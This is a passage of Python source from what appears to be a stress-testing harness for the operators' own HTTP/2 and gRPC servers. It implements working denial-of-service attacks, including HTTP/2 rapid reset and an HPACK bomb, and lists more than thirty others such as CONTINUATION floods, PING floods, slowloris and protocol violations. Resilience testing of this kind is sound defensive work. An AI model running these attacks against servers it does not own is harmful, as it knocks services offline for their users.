    connection.wait(lambda: 1 in connection.seen.streams and (
        connection.seen.streams[1].ended or connection.seen.streams[1].rst is not None),
        VIOLATION_HOLD_S)
    hold(VIOLATION_HOLD_S)
    seen = connection.seen.streams.get(1)
    answer = ("no answer" if seen is None else
              f"RST_STREAM {seen.rst}" if seen.rst else f"grpc-status {seen.grpc_status}")
    ending = ending_summary([connection])
    close_all([connection])
    refused = seen is not None and (seen.rst is not None or seen.grpc_status not in (None, "0"))
    return Outcome(sent="a call to /not.a.Service/Method", ending=ending, notes=answer,
                   checks={"refused (UNIMPLEMENTED)": refused},
                   details={"answer": answer, "connection": connection.describe()})


def rapid_reset(ctx: Context) -> Outcome:
    """Calls that are reset as soon as sent (HEADERS, DATA with END_STREAM, RST_STREAM CANCEL),
    100 to a write, for the bound."""
    bound = ctx.scale(10, 3)
    connection = ctx.connect()
    message = grpc_message(ctx.target.body)
    call = (headers_frame(1, stateless_block(ctx.fields())), data_frame(1, message, True),
            RstStreamFrame(1, error_code=8).serialize())
    start = time.monotonic()
    stream = 1
    while time.monotonic() - start < bound and not connection.ended:
        if not wait_window(connection, stream, 100 * len(message), 2.0):
            break
        batch = b"".join(with_stream(frame, stream + 2 * i) for i in range(100) for frame in call)
        connection.spend_window(stream, 100 * len(message))
        if not connection.send(batch, block_s=2.0):
            break
        stream += 200
    elapsed = time.monotonic() - start
    hold(1.0, [connection])
    calls = (stream - 1) // 2
    answered = sum(1 for s in connection.seen.streams.values() if s.grpc_status == "0")
    ending = ending_summary([connection])
    close_all([connection])
    return Outcome(sent=f"{calls:,} calls reset at once in {elapsed:.1f} s", ending=ending,
                   notes=f"{answered:,} answered anyway",
                   details={"calls": calls, "answered": answered, "seconds": elapsed,
                            "connection": connection.describe()})


def hpack_bomb(ctx: Context) -> Outcome:
    """A 4,000-byte header value put in the peer's HPACK table by a valid call, then header
    blocks that refer to it as many times as a frame holds."""
    bound = ctx.scale(10, 3)
    connection = ctx.connect()
    base = stateless_block(ctx.fields())
    entry = hpack.Encoder().encode([(b"x-bomb", b"a" * 4000)], huffman=False)  # indexed: 62
    send_call(connection, 1, base + entry, grpc_message(ctx.target.body))
    limit = connection.seen.peer_settings.get(0x5, 16_384)
    references = min(limit, 16_384) - len(base) - 16
    bomb = base + b"\xbe" * references
    start, stream, blocks = time.monotonic(), 3, 0
    while time.monotonic() - start < bound and not connection.ended:
        if not connection.send(headers_frame(stream, bomb, end_stream=True), block_s=2.0):
            break
        stream += 2
        blocks += 1
    elapsed = time.monotonic() - start
    hold(1.0, [connection])
    ending = ending_summary([connection])
    close_all([connection])
    claimed = blocks * references * (6 + 4000 + 32)
    return Outcome(sent=f"{blocks:,} blocks x {references:,} refs ({mb(blocks * len(bomb))} sent, "
                        f"{claimed / 1e9:.1f} GB decoded) in {elapsed:.1f} s",
                   ending=ending,
                   details={"blocks": blocks, "references": references,
                            "connection": connection.describe()})


HUGGY = "huggy"
KEYED = "huggy+key"
TWO = (HUGGY, "grpcio")
THREE = (HUGGY, "grpcio", "envs")

ATTACKS: tuple[Attack, ...] = (
    Attack("continuation_flood", "empty CONTINUATION frames after HEADERS, 15 s", TWO,
           continuation_flood, (15, 4)),
    Attack("ping_flood_unread", "PING flood, client never reads, 15 s", THREE,
           ping_flood_unread, (15, 4)),
    Attack("settings_flood_unread", "SETTINGS flood, client never reads, 15 s", TWO,
           settings_flood_unread, (15, 4)),
    Attack("ping_flood_read", "PING flood, client reads the ACKs, 12 s", TWO,
           ping_flood_read, (12, 4)),
    Attack("unknown_path", "5,000 calls to an unknown 4 KB :path, never read", TWO,
           unknown_path, (15, 5)),
    Attack("unknown_path_key", "the same against the instance with an API key", (KEYED,),
           unknown_path, (15, 5)),
    Attack("big_message", "4 calls x 50 MB that never end", THREE, big_message, (15, 5)),
    Attack("big_message_wrong_key", "4 calls x 50 MB that never end, wrong key", (KEYED,),
           big_message_wrong_key, (15, 5)),
    Attack("http_body_wrong_key", "POST /v1/act, 1 MB body, wrong key", (KEYED,),
           http_body_wrong_key, (3, 3)),
    Attack("open_streams", "40 conns x 256 streams stuck after their headers, 15 s", TWO,
           open_streams, (15, 4)),
    Attack("window_zero", "256 calls from a client with window 0, 20 s", TWO, window_zero,
           (20, 5)),
    Attack("idle_connections", "5,000 silent connections + 1 idle after SETTINGS, 55 s", TWO,
           idle_connections, (55, 8)),
    Attack("json_keys_grpc", "a JSON body with 40,000 keys, the last repeated, gRPC", TWO,
           json_keys_grpc, (4, 4)),
    Attack("json_keys_http", "a JSON body with 40,000 keys, the last repeated, HTTP", (HUGGY,),
           json_keys_http, (4, 4)),
    Attack("slowloris", "4,150 slow-header connections through HAProxy, 30 s", (HUGGY,),
           slowloris, (30, 8)),
    Attack("concurrent_600", "600 valid HTTP requests at once", (HUGGY,), _concurrent(600),
           (4, 4), latency_during=False),
    Attack("concurrent_1000", "1,000 valid HTTP requests at once", (HUGGY,), _concurrent(1000),
           (4, 4), latency_during=False),
    Attack("concurrent_3000", "3,000 valid HTTP requests at once", (HUGGY,), _concurrent(3000),
           (4, 4), latency_during=False),
    Attack("any_path", "a valid call to a method not served", THREE, any_path,
           (2 * VIOLATION_HOLD_S, 2 * VIOLATION_HOLD_S)),
    Attack("stream_window_overflow", "WINDOW_UPDATE overflowing a stream window", TWO,
           stream_window_overflow, (VIOLATION_HOLD_S, VIOLATION_HOLD_S)),
    Attack("conn_window_overflow", "WINDOW_UPDATE overflowing the connection window", THREE,
           conn_window_overflow, (VIOLATION_HOLD_S, VIOLATION_HOLD_S)),
    Attack("zero_window_increment", "WINDOW_UPDATE with increment 0", TWO,
           zero_window_increment, (VIOLATION_HOLD_S, VIOLATION_HOLD_S)),
    Attack("ping_on_stream", "PING on a stream", TWO, ping_on_stream,
           (VIOLATION_HOLD_S, VIOLATION_HOLD_S)),
    Attack("rst_idle_stream", "RST_STREAM on an idle stream", TWO, rst_idle_stream,
           (VIOLATION_HOLD_S, VIOLATION_HOLD_S)),
    Attack("uppercase_header", "an uppercase header name", TWO, uppercase_header,
           (VIOLATION_HOLD_S, VIOLATION_HOLD_S)),
    Attack("connection_header", "a connection-specific header", TWO, connection_header,
           (VIOLATION_HOLD_S, VIOLATION_HOLD_S)),
    Attack("missing_pseudo", "a request without pseudo-headers", TWO, missing_pseudo,
           (VIOLATION_HOLD_S, VIOLATION_HOLD_S)),
    Attack("bad_preface", "an HTTP/1.1 request instead of the preface", TWO, bad_preface,
           (VIOLATION_HOLD_S, VIOLATION_HOLD_S)),
    Attack("oversized_frame", "a frame over SETTINGS_MAX_FRAME_SIZE", TWO, oversized_frame,
           (VIOLATION_HOLD_S, VIOLATION_HOLD_S)),
    Attack("max_frame_size_zero", "SETTINGS_MAX_FRAME_SIZE=0, then a call", THREE,
           max_frame_size_zero, (VIOLATION_HOLD_S, VIOLATION_HOLD_S)),
    Attack("rapid_reset", "calls reset as soon as sent, 10 s", TWO, rapid_reset, (10, 3)),
    Attack("hpack_bomb", "a 4 KB HPACK entry referenced ~16,000 times a block, 10 s", TWO,
           hpack_bomb, (10, 3)),
)
